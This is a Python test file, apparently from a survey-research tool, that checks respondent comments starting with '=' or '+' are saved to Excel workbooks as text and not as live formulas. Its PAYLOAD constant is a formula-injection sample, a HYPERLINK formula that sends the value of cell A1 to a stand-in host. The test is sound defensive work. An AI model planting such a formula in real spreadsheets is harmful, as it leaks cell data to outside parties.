"""Workbooks written from data keep a respondent's "=..." text as text, never a formula."""

from __future__ import annotations

from pathlib import Path

import openpyxl
import pandas as pd

from cxresearch.qual.sheets import _write
from cxresearch.xlsx import write_frames

PAYLOAD = '=HYPERLINK("http://example.invalid/?"&A1,"click")'


def _cell(path: Path, sheet: str, ref: str) -> openpyxl.cell.cell.Cell:
    return openpyxl.load_workbook(path)[sheet][ref]


def test_write_frames_keeps_formula_like_text_as_text(tmp_path: Path) -> None:
    path = tmp_path / "list.xlsx"
    write_frames(path, {"followup": pd.DataFrame({"comment": [PAYLOAD, "+1", "ok"]})})
    cell = _cell(path, "followup", "A2")
    assert cell.value == PAYLOAD and cell.data_type == "s"
    assert _cell(path, "followup", "A3").data_type == "s"


def test_a_coder_sheet_keeps_a_formula_like_comment_as_text(tmp_path: Path) -> None:
    frame = pd.DataFrame({"response_id": ["r1"], "comment": [PAYLOAD]})
    path = _write(frame, tmp_path / "coder.xlsx")
    cell = _cell(path, "coding", "B2")
    assert cell.value == PAYLOAD and cell.data_type == "s"
